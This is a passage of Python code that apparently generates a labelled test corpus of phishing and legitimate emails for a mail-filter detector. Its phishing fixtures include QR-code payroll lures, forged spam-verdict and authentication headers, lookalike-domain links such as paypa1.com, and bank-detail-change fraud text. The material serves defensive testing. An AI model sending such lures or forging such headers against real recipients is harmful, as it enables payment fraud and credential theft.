      frm=addr("Benefits Administration", "statements@benefits-admin.net"), to=addr(*BOB),
      subject="Your 2025 benefits statement",
      entity=multipart("related",
                       alt("Hi Bob,\n\nYour 2025 benefits statement is ready. Scan the QR code in this message with your "
                           "phone to view it.\n\nBenefits Administration\n",
                           html_page('<tr><td style="padding:28px;font-size:15px;line-height:22px;">'
                                     '<p>Hi Bob,</p><p>Your 2025 benefits statement is ready. Scan the code with your '
                                     'phone to view it.</p><p><img src="cid:benefits-qr" width="222" alt="scan me"></p>'
                                     '<p>Benefits Administration</p></td></tr>', title="Benefits")),
                       attachment(make_qr("https://northwind-benefits.top/enroll"), "image/png", "statement.png",
                                  inline=True, cid="benefits-qr"), params='; type="multipart/alternative"'))

    P("qr-png-shortener-bonus",
      "PNG QR attachment encoding a shortener URL https://is.gd/nwpay25 in a bonus-payment lure; text says scan the code",
      "dmarc=pass", [8],
      frm=addr("Payroll Services", "payroll-notice@hrpay-services.com"), to=addr(*DAVE),
      subject="Q1 bonus payment - action needed",
      entity=multipart("mixed", text("Hello Dave,\n\nYour Q1 bonus payment is ready to be released. To confirm your "
                                     "details,\nscan the attached code with your phone camera.\n\nPayroll Services\n"),
                       attachment(make_qr("https://is.gd/nwpay25"), "image/png", "Bonus_Q1.png")))

    # ---------------------------------------------------------------- 9. forged trust headers
    def forged(dom, score="-5.0"):
        return [("Authentication-Results", "mx.northwind.com; spf=pass smtp.mailfrom=%s; dkim=pass header.d=%s; "
                                           "dmarc=pass (p=REJECT) header.from=%s" % (dom, dom, dom)),
                ("X-Spam-Flag", "NO"), ("X-Spam-Status", "No, score=%s required=5.0 tests=ALL_TRUSTED" % score),
                ("X-Palisade-Verdict", "deliver; score=0")]

    P("forged-trust-headers-microsoft",
      "Carries forged X-Spam-Flag: NO, X-Spam-Status, X-Palisade-Verdict and Authentication-Results; link to micros0ft-online.com",
      "dmarc=pass", [9, 1, 2],
      frm=addr("Microsoft 365", "no-reply@ms365-notices.com"), to=addr(*BOB), before=forged("ms365-notices.com"),
      subject="Shared document: Q1 Forecast.xlsx",
      entity=card_alt("Microsoft 365", "#0078d4", "Alice Martin shared a document",
                      ["Q1 Forecast.xlsx"], button=("Open", "https://micros0ft-online.com/doc/q1forecast"),
                      footer=MS_FOOT))

    P("forged-trust-headers-paypal",
      "Forged trust headers (X-Spam-Status No, X-Palisade-Verdict deliver, AR dmarc=pass) plus a paypa1.com link; real dmarc=none",
      "dmarc=none", [9, 1, 2],
      frm=addr("PayPal", "service@pp-resolution.top"), to=addr(*DAVE), before=forged("pp-resolution.top", "-3.2"),
      subject="Your PayPal account has been suspended",
      entity=card_alt("PayPal", "#003087", "Account suspended",
                      ["Your account has been suspended due to unusual activity."],
                      button=("Restore access", "https://www.paypa1.com/restore"), footer=PP_FOOT))

    P("forged-trust-headers-docusign",
      "Forged trust headers incl. X-MS-Exchange-Organization-SCL: -1; link to docusign-review.net",
      "dmarc=pass", [9, 1, 2],
      frm=addr("DocuSign via Contract Desk", "sign@esign-center.click"), to=addr(*ALICE),
      before=forged("esign-center.click", "-10.0") + [("X-MS-Exchange-Organization-SCL", "-1")],
      subject="Please DocuSign: Settlement_Agreement.pdf",
      entity=card_alt("DocuSign", "#1e4ca1", "Please review and sign Settlement_Agreement.pdf", [],
                      button=("REVIEW DOCUMENT", "https://docusign-review.net/Signing/?ti=88c1"), footer=DS_FOOT))

    P("forged-trust-headers-helpdesk",
      "Forged trust headers (AR dmarc=pass, X-Spam-Flag NO, X-Palisade-Verdict deliver) on mail from northwind-helpdesk.com (local name embedded); reset lure",
      "dmarc=pass", [9, 1],
      frm=addr("Northwind Service Desk", "it@northwind-helpdesk.com"), to=addr(*CAROL),
      before=forged("northwind-helpdesk.com", "-2.1"),
      subject="Ticket INC0048213: password reset completed",
      entity=card_alt("Service Desk", "#2b579a", "Your password reset is almost complete",
                      ["Ticket INC0048213", "A password reset was requested for carol@northwind.com. If you did not "
                       "request it, cancel the reset now or your account will be locked."],
                      button=("Cancel reset", "https://northwind-helpdesk.com/itsm/cancel?inc=INC0048213"),
                      footer="Northwind IT Service Desk"))

    # ---------------------------------------------------------------- 10. first contact, correspondent lookalikes
    def bank_change(name, company, sign):
        return ("Dear %s,\n\nI hope you're well. Please be informed that %s has migrated to a new\n"
                "banking partner. With immediate effect, kindly update our remittance details in your\n"
                "system and direct the pending payment to the new account. I will share the new account\n"
                "details upon your confirmation of this email.\n\nKind regards,\n%s\n" % (name, company, sign))
    P("first-contact-globex-corp",
      "First contact from globex-corp.com (embedded name of correspondent globex.com); bank-detail change",
      "dmarc=pass", [10, 1],
      frm=addr("Robert Vance", "r.vance@globex-corp.com"), to=addr(*BOB),
      subject="Change of bank details - Globex Corporation",
      entity=text(bank_change("Bob", "Globex Corporation", "Robert Vance\nTreasury Manager | Globex Corporation")))

    P("first-contact-g1obex",
      "First contact from g1obex.com (digit 1 for l, lookalike of correspondent globex.com); bank-detail change",
      "dmarc=pass", [10, 1],
      frm=addr("Globex Accounts", "accounts@g1obex.com"), to=addr(*BOB),
      subject="RE: Payment for PO 55410",
      entity=text(bank_change("Bob", "Globex", "Accounts Department\nGlobex")))

    P("first-contact-initech-billing",
      "First contact from initech-billing.com (embedded name of correspondent initech.com); bank-detail change with PDF",
      "dmarc=pass", [10, 1],
      frm=addr("Initech Billing", "billing@initech-billing.com"), to=addr(*BOB),
      subject="Initech - updated bank account for invoice payments",
      entity=multipart("mixed", text(bank_change("Bob", "Initech", "Billing Team\nInitech")),
                       attachment(make_pdf(["INITECH - NOTICE OF CHANGE OF BANK ACCOUNT", "",
                                            "Beneficiary: Initech LLC", "Bank: Coastal Heritage Bank",
                                            "Routing: 021000089", "Account: 4471 0092 1183"],
                                           "Bank change"), "application/pdf", "Initech_Bank_Letter.pdf")))

    P("first-contact-umbrella-corp-co",
      "First contact from umbrella-corp.co (TLD swap of correspondent umbrella-corp.com), dmarc=none; bank change",
      "dmarc=none", [10, 1],
      frm=addr("Umbrella Corp Finance", "finance@umbrella-corp.co"), to=addrs(BOB, ALICE),
      subject="Umbrella Corporation - new remittance instructions",
      entity=text(bank_change("Bob", "Umbrella Corporation", "Finance Department\nUmbrella Corporation")))


# ======================================================================================
# HAM
# ======================================================================================
def H(slug, note, auth, **kw):
    return add("ham", slug, note, auth, **kw)


def tok(seed: str, n: int = 24) -> str:
    """Deterministic opaque token for tracking URLs."""
    out = ""
    i = 0
    while len(out) < n:
        out += base64.urlsafe_b64encode(hashlib.sha256(("%s/%d" % (seed, i)).encode()).digest()).decode().rstrip("=")
        i += 1
    return out[:n]


def outlook_html(paras, signature_lines, quoted_html: str = "") -> str:
    ps = "\n".join('<p class="MsoNormal">%s<o:p></o:p></p>' % (esc(p) if p else "&nbsp;") for p in paras)
    sig = "<br>\n".join(esc(l) for l in signature_lines)
    return ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head><meta http-equiv="Content-Type" content="text/html; '
            'charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            'p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}\n'
            '--></style></head>\n<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
            '<div class="WordSection1">\n%s\n<p class="MsoNormal">&nbsp;<o:p></o:p></p>\n<p class="MsoNormal" '
            'style="color:#595959;font-size:10.0pt">%s<o:p></o:p></p>\n%s</div>\n</body>\n</html>\n'
            % (ps, sig, quoted_html))


def gmail_html(paras) -> str:
    return '<div dir="ltr">' + "".join("<div>%s</div>" % (esc(p) if p else "<br>") for p in paras) + "</div>\n"


def plain(paras) -> str:
    return "\n".join(paras) + "\n"


def newsletter(brand, color, preheader, sections, click, pixel, unsub, address_line, hero_title):
    """sections: list of (title, text, cta_words, slug) -> HTML with tracked links (anchor text = words)."""
    rows = ['<tr><td style="background:%s;padding:22px 28px;"><a href="%s" style="color:#fff;font-size:24px;'
            'font-weight:bold;text-decoration:none;">%s</a></td></tr>' % (color, esc(click("logo")), esc(brand)),
            '<tr><td style="padding:26px 28px 6px 28px;"><h1 style="margin:0;font-size:24px;color:#222;">%s</h1>'
            '</td></tr>' % esc(hero_title)]
    for title, body, cta, slug in sections:
        rows.append('<tr><td style="padding:14px 28px;"><h2 style="margin:0 0 8px 0;font-size:18px;color:#222;">%s'
                    '</h2><p style="margin:0 0 10px 0;font-size:15px;line-height:22px;color:#444;">%s</p>'
                    '<a href="%s" style="display:inline-block;background:%s;color:#fff;padding:10px 20px;'
                    'border-radius:3px;text-decoration:none;font-size:14px;">%s</a></td></tr>'
                    % (esc(title), esc(body), esc(click(slug)), color, esc(cta)))
    rows.append('<tr><td style="padding:20px 28px;font-size:12px;line-height:18px;color:#888;border-top:1px solid '
                '#eee;">You are receiving this email because you subscribed on our website.<br>%s<br>'
                '<a href="%s" style="color:#888;">Update preferences</a> &middot; <a href="%s" style="color:#888;">'
                'Unsubscribe</a> &middot; <a href="%s" style="color:#888;">View in browser</a></td></tr>'
                % (esc(address_line), esc(click("prefs")), esc(unsub), esc(click("browser"))))
    rows.append('<tr><td><img src="%s" width="1" height="1" alt="" style="display:block;border:0;"></td></tr>'
                % esc(pixel))
    h = html_page("\n".join(rows), title=brand, preheader=preheader)
    t = [hero_title, ""]
    for title, body, cta, slug in sections:
        t += [title, body, "%s: %s" % (cta, click(slug)), ""]
    t += ["--", "You are receiving this email because you subscribed on our website.", address_line,
          "Unsubscribe: %s" % unsub]
    return alt("\n".join(t) + "\n", h)


def list_unsub(url, mailto):
    return [("List-Unsubscribe", "<%s>, <mailto:%s>" % (url, mailto)),
            ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click")]


def build_ham():
    # ---------------------------------------------------------------- newsletters (tracking redirects)
    mc_u, mc_id = "5c1e0e8b3a4f2d9a7b6c1e2f3", "a1b2c3d4e5"

    def mc_click(slug):
        return ("https://harborcoffee.us12.list-manage.com/track/click?u=%s&id=%s&e=%s"
                % (mc_u, hashlib.md5(slug.encode()).hexdigest()[:10], "9f8e7d6c5b"))
    mc_unsub = "https://harborcoffee.us12.list-manage.com/unsubscribe?u=%s&id=%s&e=9f8e7d6c5b&c=0d1e2f3a4b" % (mc_u, mc_id)
    H("newsletter-mailchimp",
      "Mailchimp newsletter: every link is a list-manage.com click redirect with word anchors, tracking pixel, List-Unsubscribe",
      "dmarc=pass", frm=addr("Harbor Coffee Roasters", "hello@harborcoffee.com"), to=addr(*ALICE),
      subject="New harvest: Ethiopia Guji is back \u2615",
      mail_from="bounce-mc.us12_48213907.1187342-alice=northwind.com@mail211.atl121.mcsv.net", client="198.51.100.10",
      extra=[("List-ID", "%smc list <%s.48213907.list-id.mcsv.net>" % (mc_u, mc_u)),
             ("X-Campaign", "mailchimp%s.%s" % (mc_u, mc_id)), ("Precedence", "bulk")]
            + list_unsub(mc_unsub, "unsubscribe-mc.us12_%s.%s-9f8e7d6c5b@unsubscribe.mailchimpapp.net" % (mc_u, mc_id)),
      entity=newsletter("Harbor Coffee Roasters", "#5b3a29", "Bright, floral and back for a limited time.",
                        [("Ethiopia Guji Natural", "Notes of blueberry, jasmine and dark chocolate. Roasted to order "
                          "every Tuesday.", "Shop now", "guji"),
                         ("Brew guide: the perfect pour-over", "Our head roaster's five-step method for a clean, "
                          "sweet cup at home.", "Read more", "guide"),
                         ("Free shipping weekend", "Orders over $35 ship free until Sunday night.", "Start your order",
                          "ship")],
                        mc_click, "https://harborcoffee.us12.list-manage.com/track/open.php?u=%s&id=%s&e=9f8e7d6c5b"
                        % (mc_u, mc_id), mc_unsub, "Harbor Coffee Roasters, 118 Wharf Street, Portland, ME 04101",
                        "The Guji is back"))

    def sg_click(slug):
        return "https://u8127734.ct.sendgrid.net/ls/click?upn=u001.%s" % tok("sg" + slug, 96)
    sg_unsub = "https://u8127734.ct.sendgrid.net/asm/unsubscribe/?user_id=8127734&data=%s" % tok("sgun", 60)
    H("newsletter-sendgrid-product",
      "SaaS product-update newsletter through SendGrid click tracking (ct.sendgrid.net) with word anchors",
      "dmarc=pass", frm=addr("Trellis", "news@trellisapp.io"), to=addr(*DAVE),
      subject="What's new in Trellis: timeline view, faster search and more",
      mail_from="bounces+8127734-a1f2-dave=northwind.com@em4481.trellisapp.io", client="198.51.100.11",
      extra=list_unsub(sg_unsub, "unsubscribe@em4481.trellisapp.io"),
      entity=newsletter("Trellis", "#4a3aff", "Timeline view is here.",
                        [("Timeline view", "Plan projects across weeks with drag-and-drop dependencies.", "Try it now",
                          "timeline"),
                         ("Search that keeps up", "Search is now up to 4x faster in large workspaces.", "Learn more",
                          "search"),
                         ("Webinar: planning Q2", "Join our product team live on 20 March.", "Save your seat",
                          "webinar")],
                        sg_click, "https://u8127734.ct.sendgrid.net/wf/open?upn=u001.%s" % tok("sgopen", 80), sg_unsub,
                        "Trellis Software Inc., 500 Howard St, San Francisco, CA 94105", "March product update"))

    def hs_click(slug):
        return "https://d2v8tf04.na1.hubspotlinks.com/Ctc/5G+113/d2v8tf04/VWjk%s" % tok("hs" + slug, 70)
    hs_unsub = "https://hs-4488213.s.hubspotemail.net/hs/manage-preferences/unsubscribe?d=%s" % tok("hsun", 50)
    H("newsletter-hubspot",
      "B2B marketing e-mail via HubSpot (hubspotlinks.com redirects), pixel, List-Unsubscribe",
      "dmarc=pass", frm=addr("Priya Raman from Meridian Analytics", "priya@meridiananalytics.com"), to=addr(*BOB),
      subject="[Report] 2025 CFO benchmark: how finance teams are closing faster",
      mail_from="1axbtcxkh8fcwfzpe4rw@bf09x.hubspotemail.net", client="198.51.100.12",
      extra=list_unsub(hs_unsub, "unsubscribe@bf09x.hubspotemail.net"),
      entity=newsletter("Meridian Analytics", "#ff7a59", "Benchmarks from 1,200 finance teams.",
                        [("The 2025 CFO benchmark", "We surveyed 1,200 finance leaders about close times, "
                          "automation and headcount.", "Download the report", "report"),
                         ("Live panel", "Three CFOs discuss how they cut their month-end close to four days.",
                          "Register", "panel")],
                        hs_click, "https://d2v8tf04.na1.hubspotlinks.com/Cto/%s" % tok("hsopen", 40), hs_unsub,
                        "Meridian Analytics, 75 State Street, Boston, MA 02109", "Close faster in 2025"))

    def md_click(slug):
        return ("https://mandrillapp.com/track/click/31012345/opssummit.org?p=%s"
                % base64.urlsafe_b64encode(('{"s":"%s","v":1,"p":"{\\"u\\":31012345,\\"url\\":\\"https://opssummit.org/%s\\"}"}'
                                            % (tok("md" + slug, 16), slug)).encode()).decode().rstrip("="))
    md_unsub = "https://mandrillapp.com/track/unsub.php?u=31012345&id=%s&r=https%%3A%%2F%%2Fopssummit.org%%2Funsubscribe" % tok("mdun", 32)
    H("newsletter-mandrill-event",
      "Event announcement through Mandrill click tracking (mandrillapp.com/track/click) with word anchors",
      "dmarc=pass", frm=addr("NorthEast Ops Summit", "events@opssummit.org"), to=addr(*CAROL),
      subject="Early-bird tickets end Friday - NorthEast Ops Summit 2025",
      mail_from="bounce-md_31012345.67c1a2b3.v1-%s@mandrillapp.com" % tok("mdb", 24), client="198.51.100.13",
      extra=list_unsub(md_unsub, "unsub-%s@mandrillapp.com" % tok("mdu", 16)),
      entity=newsletter("NorthEast Ops Summit", "#00796b", "Two days, 40 talks, one great community.",
                        [("Agenda announced", "Talks on incident response, platform engineering and on-call health.",
                          "See the agenda", "agenda"),
                         ("Early-bird pricing", "Save 30% until Friday at midnight.", "Get tickets", "tickets")],
                        md_click, "https://mandrillapp.com/track/open.php?u=31012345&id=%s" % tok("mdopen", 32),
                        md_unsub, "NorthEast Ops Summit, 1 Congress St, Boston, MA 02114", "Join us in Boston"))

    def ap_click(slug):
        return "https://click.alderandpine.com/ls/click?upn=%s" % tok("ap" + slug, 80)
    ap_unsub = "https://click.alderandpine.com/asm/unsubscribe/?data=%s" % tok("apun", 40)
    H("newsletter-retail-shop-now",
      "Retail promotion with 'Shop now' buttons through a branded click-tracking domain, tracking pixel",
      "dmarc=pass", frm=addr("Alder & Pine", "style@alderandpine.com"), to=addr(*CAROL),
      subject="Spring layers are here - 20% off for members",
      mail_from="bounces+1187@em.alderandpine.com", client="198.51.100.14",
      extra=list_unsub(ap_unsub, "unsubscribe@em.alderandpine.com"),
      entity=newsletter("ALDER & PINE", "#2f4f4f", "Members save 20% this week.",
                        [("Lightweight jackets", "Water-resistant shells in five new colours.", "Shop now", "jackets"),
                         ("Merino essentials", "Soft, breathable and machine washable.", "Shop merino", "merino"),
                         ("Members: 20% off", "Use code SPRING20 at checkout until 16 March.", "Shop the sale",
                          "sale")],
                        ap_click, "https://click.alderandpine.com/wf/open?upn=%s" % tok("apopen", 60), ap_unsub,
                        "Alder & Pine, 42 Market Street, Burlington, VT 05401", "New season, new layers"))

    H("newsletter-plain-digest",
      "Plain-text weekly digest with full URLs on the sender's own domain and List-Unsubscribe",
      "dmarc=pass", frm=addr("The Weekly Ledger", "digest@weeklyledger.news"), to=addr(*BOB),
      subject="The Weekly Ledger #212: lease accounting, FX hedging, close automation",
      mail_from="bounce@weeklyledger.news", client="198.51.100.15",
      extra=[("List-Id", "The Weekly Ledger <weekly.weeklyledger.news>")]
            + list_unsub("https://weeklyledger.news/unsubscribe?s=%s" % tok("wl", 20), "leave@weeklyledger.news"),
      entity=text("THE WEEKLY LEDGER - Issue #212\n==============================\n\n"
                  "1. Lease accounting: five mistakes auditors keep finding\n"
                  "   https://weeklyledger.news/2025/03/lease-accounting-mistakes\n\n"
                  "2. FX hedging for mid-size companies, explained without jargon\n"
                  "   https://weeklyledger.news/2025/03/fx-hedging-explained\n\n"
                  "3. Automating the month-end close: a practical checklist\n"
                  "   https://weeklyledger.news/2025/03/close-automation-checklist\n\n"
                  "--\nYou subscribed as bob@northwind.com.\n"
                  "Manage your subscription: https://weeklyledger.news/account\n"))

    # ---------------------------------------------------------------- invoices & receipts
    fab_pdf = make_pdf(["Fabrikam Inc - INVOICE FAB-22817", "Date: 03 March 2025", "Bill to: Northwind Ltd, Attn: Bob Chen",
                        "", "Consulting services February 2025       EUR 31,200.00",
                        "Travel expenses                           EUR  1,410.00", "Total due                      "
                        "           EUR 32,610.00", "", "Payment terms: 30 days. Bank details as per contract."],
                       "Invoice FAB-22817")
    H("invoice-fabrikam-pdf",
      "Partner invoice from fabrikam.com with a real PDF attachment, bank details unchanged",
      "dmarc=pass", frm=addr("Fabrikam Billing", "billing@fabrikam.com"), to=addr(*BOB), client="198.51.100.16",
      subject="Invoice FAB-22817 from Fabrikam Inc",
      entity=multipart("mixed", alt(
          "Dear Bob,\n\nPlease find attached invoice FAB-22817 for February consulting services.\n"
          "Payment is due within 30 days to the account on file.\n\nKind regards,\nSandra Koch\nFabrikam Billing\n",
          outlook_html(["Dear Bob,", "", "Please find attached invoice FAB-22817 for February consulting services.",
                        "Payment is due within 30 days to the account on file.", "", "Kind regards,"],
                       ["Sandra Koch", "Billing | Fabrikam Inc", "+49 30 5550 1172"])),
          attachment(fab_pdf, "application/pdf", "Fabrikam_Invoice_FAB-22817.pdf")))

    H("receipt-contoso-pdf",
      "Order receipt from contoso.com with PDF receipt attached and an order link on contoso.com",
      "dmarc=pass", frm=addr("Contoso Store", "receipts@contoso.com"), to=addr(*DAVE), client="198.51.100.17",
      subject="Your Contoso receipt - order CN-558120",
      entity=multipart("mixed",
                       card_alt("Contoso", "#0f6cbd", "Thanks for your order",
                                ["Order CN-558120 - 4 x Surface dock (USD 1,196.00)",
                                 "Your receipt is attached as a PDF."],
                                button=("View order", "https://www.contoso.com/account/orders/CN-558120"),
                                footer='Contoso Ltd &middot; <a href="https://www.contoso.com/privacy">Privacy</a>'),
                       attachment(make_pdf(["Contoso Store - Receipt CN-558120", "4 x Surface dock   USD 1,196.00",
                                            "Paid by corporate card ending 0094"], "Receipt"), "application/pdf",
                                  "Receipt_CN-558120.pdf")))

    H("utility-bill-pdf",
      "Utility e-bill with statement PDF and links to the utility's own portal",
      "dmarc=pass", frm=addr("Lakeshore Energy", "ebill@lakeshore-energy.com"), to=addr(*BOB), client="198.51.100.18",
      subject="Your March statement is ready - account ending 7731",
      entity=multipart("mixed",
                       card_alt("Lakeshore Energy", "#1b5e20", "Your statement is ready",
                                ["Account ending 7731", "Amount due: $2,184.16   Due date: 25 March 2025",
                                 "Your payment will be collected automatically by direct debit."],
                                button=("View statement online", "https://my.lakeshore-energy.com/billing/statements"),
                                footer="Lakeshore Energy, 400 Lake Ave, Chicago, IL 60601 &middot; "
                                       '<a href="https://www.lakeshore-energy.com/privacy">Privacy</a>'),
                       attachment(make_pdf(["Lakeshore Energy - Statement March 2025", "Account: ****7731",
                                            "Electricity 14,220 kWh   $1,904.33", "Gas 1,210 therms   $279.83",
                                            "Total due $2,184.16"], "Statement"), "application/pdf",
                                  "Statement_2025-03.pdf")))

    H("statement-umbrella-pdf",
      "Statement of account from correspondent umbrella-corp.com with PDF",
      "dmarc=pass", frm=addr("Umbrella Corp Accounts", "accounts@umbrella-corp.com"), to=addr(*BOB),
      client="198.51.100.19", subject="Statement of account - February 2025",
      entity=multipart("mixed",
                       text("Dear Bob,\n\nAttached is your statement of account for February 2025. No action is\n"
                            "required if payments have already been scheduled.\n\nBest regards,\nUmbrella Corp "
                            "Accounts Receivable\n"),
                       attachment(make_pdf(["Umbrella Corp - Statement of account", "Customer: Northwind Ltd",
                                            "Opening balance  USD 12,000.00", "Payments         USD 12,000.00",
                                            "Closing balance  USD 0.00"], "Statement"), "application/pdf",
                                  "Umbrella_Statement_Feb2025.pdf")))

    # ---------------------------------------------------------------- transactional mail from protected brands
    PPF = ('<a href="https://www.paypal.com/us/smarthelp/home">Help &amp; Contact</a> | '
           '<a href="https://www.paypal.com/us/webapps/mpp/ua/privacy-full">Privacy</a><br>' + PP_FOOT)
    H("paypal-receipt",
      "Genuine PayPal receipt (dmarc=pass) with links to www.paypal.com",
      "dmarc=pass", frm=addr("service@paypal.com", "service@paypal.com"), to=addr(*BOB), client="198.51.100.20",
      subject="Receipt for your payment to Harbor Coffee Roasters",
      entity=card_alt("PayPal", "#003087", "You sent $64.50 USD to Harbor Coffee Roasters",
                      ["Hello Bob Chen,", "Transaction ID: 9XK12783MN4450218", "Transaction date: 3 March 2025",
                       "Ethiopia Guji Natural x3   $64.50 USD"],
                      button=("View transaction details",
                              "https://www.paypal.com/myaccount/transactions/details/9XK12783MN4450218"),
                      footer=PPF, pixel="https://www.paypal.com/xoplatform/logger/api/logger?disrcl=receipt"))

    H("microsoft-security-notice",
      "Genuine Microsoft account security notice linking to account.microsoft.com",
      "dmarc=pass", frm=addr("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
      to=addr(*CAROL), client="198.51.100.21", subject="Microsoft account security info was added",
      entity=card_alt("Microsoft account", "#2672ec", "Security info was added",
                      ["The following security info was recently added to the Microsoft account ca*****@northwind.com:",
                       "Authenticator app (iPhone)", "If this was you, you can safely ignore this email."],
                      button=("Review security info", "https://account.microsoft.com/security"),
                      footer='<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a><br>'
                             "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"))

    H("amazon-shipping",
      "Genuine Amazon shipment notification linking to www.amazon.com",
      "dmarc=pass", frm=addr("Amazon.com", "shipment-tracking@amazon.com"), to=addr(*DAVE), client="198.51.100.22",
      subject="Your Amazon.com order #113-5518823-1140259 has shipped",
      entity=card_alt("amazon", "#232f3e", "Your package is on the way",
                      ["Hi Dave,", "Arriving Thursday, March 6", "Logitech MX Keys S Keyboard",
                       "Order #113-5518823-1140259"],
                      button=("Track package",
                              "https://www.amazon.com/gp/your-account/ship-track?orderId=113-5518823-1140259"),
                      footer='<a href="https://www.amazon.com/gp/css/order-history">Your Orders</a> | '
                             '<a href="https://www.amazon.com/gp/help/customer/display.html">Help</a><br>'
                             "&copy; 2025 Amazon.com, Inc. or its affiliates."))

    H("docusign-reply-to-sender",
      "Genuine DocuSign envelope from dse@docusign.net (dmarc=pass) with Reply-To the human sender at fabrikam.com",
      "dmarc=pass", frm=addr("Jordan Blake via DocuSign", "dse@docusign.net"), to=addr(*ALICE),
      reply_to=addr("Jordan Blake", "jblake@fabrikam.com"), client="198.51.100.23",
      subject="Please DocuSign: Fabrikam_Northwind_MSA_2025.pdf",
      entity=card_alt("DocuSign", "#1e4ca1", "Jordan Blake sent you a document to review and sign.",
                      ["Jordan Blake\njblake@fabrikam.com", "Hi Alice, here is the final MSA as agreed on Tuesday."],
                      button=("REVIEW DOCUMENT", "https://na3.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s"
                              % (tok("dsa", 36), tok("dsacct", 36))),
                      footer=DS_FOOT + '<br><a href="https://www.docusign.com/support">Questions about the document?</a>'))

    H("linkedin-notification",
      "Genuine LinkedIn notification from messages-noreply@linkedin.com linking to www.linkedin.com",
      "dmarc=pass", frm=addr("LinkedIn", "messages-noreply@linkedin.com"), to=addr(*CAROL), client="198.51.100.24",
      subject="Carol, you have 3 new notifications",
      extra=list_unsub("https://www.linkedin.com/comm/psettings/email-unsubscribe?lipi=%s" % tok("li", 22),
                       "unsubscribe@linkedin.com"),
      entity=card_alt("LinkedIn", "#0a66c2", "You have 3 new notifications",
                      ["Tom Reed commented on your post about the Q1 release.",
                       "Jordan Blake and 4 others reacted to your post.", "Megan Fisher started a new position."],
                      button=("View notifications", "https://www.linkedin.com/comm/notifications/?lipi=%s" % tok("lin", 22)),
                      footer='This email was intended for Carol D&iacute;az. <a href="https://www.linkedin.com/help/'
                             'linkedin/answer/4788">Learn why we included this.</a><br>&copy; 2025 LinkedIn Corporation, '
                             "1000 West Maude Avenue, Sunnyvale, CA 94085."))

    gcal = make_ics("3k1l9q2m7p0a4s5d6f8g9h0j1k@google.com", "Globex / Northwind quarterly review",
                    "20250312T150000Z", "20250312T160000Z", ("Linda Park", "l.park@globex.com"),
                    [("Alice Martin", "alice@northwind.com"), ("Bob Chen", "bob@northwind.com")],
                    location="https://meet.google.com/xpa-kqrt-bnm", description="Quarterly business review.")
    H("google-calendar-invite",
      "Google Calendar invitation (calendar-notification@google.com, Reply-To organiser at globex.com): text, HTML, text/calendar and invite.ics",
      "dmarc=pass", frm=addr("Google Calendar", "calendar-notification@google.com"),
      to=addrs(ALICE, BOB), reply_to=addr("Linda Park", "l.park@globex.com"), client="198.51.100.25",
      subject="Invitation: Globex / Northwind quarterly review @ Wed 12 Mar 2025 15:00 - 16:00 (GMT)",
      entity=multipart("mixed",
                       multipart("alternative",
                                 text("Linda Park has invited you to:\n\nGlobex / Northwind quarterly review\n"
                                      "Wednesday 12 March 2025 15:00 - 16:00 (GMT)\nJoin with Google Meet: "
                                      "https://meet.google.com/xpa-kqrt-bnm\n\nReply for alice@northwind.com:\n"
                                      "https://calendar.google.com/calendar/event?action=RESPOND&eid=%s\n\n"
                                      "Invitation from Google Calendar: https://calendar.google.com/calendar/\n"
                                      % tok("geid", 40)),
                                 html(card("Google Calendar", "#1a73e8", "Globex / Northwind quarterly review",
                                           ["Wednesday 12 March 2025 - 15:00 - 16:00 (GMT)", "Organiser: Linda Park",
                                            "Guests: Alice Martin, Bob Chen"],
                                           button=("Join with Google Meet", "https://meet.google.com/xpa-kqrt-bnm"),
                                           after_button=[("raw", '<p><a href="https://calendar.google.com/calendar/'
                                                                 'event?action=RESPOND&amp;eid=%s&amp;rst=1">Yes</a> - '
                                                                 '<a href="https://calendar.google.com/calendar/event?'
                                                                 'action=RESPOND&amp;eid=%s&amp;rst=2">No</a> - <a href='
                                                                 '"https://calendar.google.com/calendar/event?action=VIEW'
                                                                 '&amp;eid=%s">More options</a></p>'
                                                                 % ((tok("geid", 40),) * 3))],
                                           footer="Invitation from Google Calendar")),
                                 text(gcal, subtype="calendar", extra_params="; method=REQUEST", cte="7bit")),
                       attachment(gcal.encode(), "application/ics", "invite.ics")))

    H("dropbox-share",
      "Genuine Dropbox share notification from no-reply@dropbox.com linking to www.dropbox.com",
      "dmarc=pass", frm=addr("Dropbox", "no-reply@dropbox.com"), to=addr(*DAVE), client="198.51.100.26",
      subject="Tom Reed shared \"Aurora launch assets\" with you",
      entity=card_alt("Dropbox", "#0061fe", "Tom Reed shared a folder with you",
                      ["Aurora launch assets", "\"Dave - final logos and banners are in here.\""],
                      button=("Go to folder", "https://www.dropbox.com/scl/fo/%s/h?rlkey=%s&dl=0"
                              % (tok("dbx", 21).lower(), tok("dbxk", 25).lower())),
                      footer='<a href="https://www.dropbox.com/account/notifications">Manage notifications</a><br>'
                             "Dropbox, Inc., PO Box 77767, San Francisco, CA 94107"))

    H("apple-receipt",
      "Genuine Apple receipt from no_reply@email.apple.com with links to apple.com hosts",
      "dmarc=pass", frm=addr("Apple", "no_reply@email.apple.com"), to=addr(*ALICE), client="198.51.100.27",
      subject="Your receipt from Apple.",
      entity=card_alt("Apple", "#1d1d1f", "Receipt",
                      ["APPLE ACCOUNT alice@northwind.com", "DATE 3 Mar 2025   ORDER ID MT8KQ2XL7P",
                       "iCloud+ with 200 GB (Monthly)   $2.99"],
                      button=("Report a Problem", "https://reportaproblem.apple.com/?s=6"),
                      footer='<a href="https://www.apple.com/legal/privacy/">Privacy Policy</a> | '
                             '<a href="https://apps.apple.com/account/subscriptions">Manage subscriptions</a><br>'
                             "Copyright &copy; 2025 Apple Inc. All rights reserved."))

    H("netflix-password-reset",
      "Genuine Netflix password-reset mail (requested by the user) linking to www.netflix.com",
      "dmarc=pass", frm=addr("Netflix", "info@account.netflix.com"), to=addr(*CAROL), client="198.51.100.28",
      subject="Complete your password reset request",
      entity=card_alt("NETFLIX", "#e50914", "Reset your password",
